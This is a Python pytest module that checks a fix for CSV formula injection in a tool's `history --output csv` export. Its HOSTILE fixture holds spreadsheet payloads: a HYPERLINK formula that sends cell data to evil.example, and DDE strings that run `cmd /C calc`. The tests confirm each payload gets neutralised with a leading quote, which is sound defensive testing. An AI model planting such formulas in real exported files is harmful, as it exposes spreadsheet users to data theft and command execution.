"""Found by review (issue 28): `history --output csv` wrote names and reasons as they came, so a
commit whose reason or author begins with `=` became a live formula in whichever spreadsheet opened
the file (OWASP "CSV Injection"). Every text cell that a spreadsheet would read as a formula starts
with a `'` now; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from reconciler.gitops.trailers import CapacityMessage, Change, Reason, build_message
from reconciler.views.output import csv_cell
from tests.support.cli import run
from tests.support.git import CLUSTER, MANIFEST_PATH, SEED_MANIFEST, Person

HOSTILE = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"details")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
}


@pytest.fixture
def config(seeded_remote: Path, tmp_path: Path) -> Path:
    when = datetime.now(UTC) - timedelta(days=1)
    desired = 2
    for index, (start, reason) in enumerate(HOSTILE.items()):
        author = Person(f"{start}mallory {index}", f"m{index}@example.com")
        up = (Change("asg-a", desired, desired + 1),)
        change = CapacityMessage(
            CLUSTER, f"scale up asg-a {desired} -> {desired + 1}", up, (Reason("asg-a", reason),)
        )
        text = SEED_MANIFEST.replace("desired: 2 ", f"desired: {desired + 1} ")
        author.commit(seeded_remote, "main", {MANIFEST_PATH: text}, build_message(change), when=when)
        desired += 1
        when += timedelta(minutes=1)
    path = tmp_path / "asg-reconciler.yaml"
    path.write_text(f"cluster: {CLUSTER}\ngit: {{url: '{seeded_remote}', workDir: '{tmp_path / 'work'}'}}\n")
    return path


def test_no_csv_cell_starts_a_formula(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    result = run(capsys, "history", "--config", str(config), "--output", "csv")
    assert result.code == 0, result.err
    rows = list(csv.DictReader(io.StringIO(result.out)))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == "-", (column, cell)
    reasons = {row["reason"] for row in rows}
    # the text is kept, only neutralised: a person reading the sheet sees what the commit said
    assert "'" + HOSTILE["="] in reasons and "'" + HOSTILE["@"] in reasons
    assert {row["author"] for row in rows} >= {"'=mallory 0", "'+mallory 1", "'-mallory 2", "'@mallory 3"}
    # numbers are data, not text: from/to stay plain integers
    assert all(row["from"].isdigit() and row["to"].isdigit() for row in rows)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_of_owasp_is_neutralised(start: str) -> None:
    """Tab and CR too (a reason cannot hold them, a hand-written commit's author or summary might)."""
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell([f"{start}i-1", "i-2"]) == f"'{start}i-1,i-2"


def test_numbers_and_the_empty_marker_stay_as_they_are() -> None:
    assert [csv_cell(v) for v in (-3, 2.5, 0, None, True, "i-0abc")] == [
        "-3",
        "2.5",
        "0",
        "-",
        "True",
        "i-0abc",
    ]


def test_json_keeps_the_text_as_it_is(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Only CSV is read by spreadsheets: JSON and YAML carry the exact text."""
    import json

    result = run(capsys, "history", "--config", str(config), "--output", "json")
    assert result.code == 0, result.err
    assert {row["reason"] for row in json.loads(result.out)} >= {HOSTILE["="], HOSTILE["@"]}
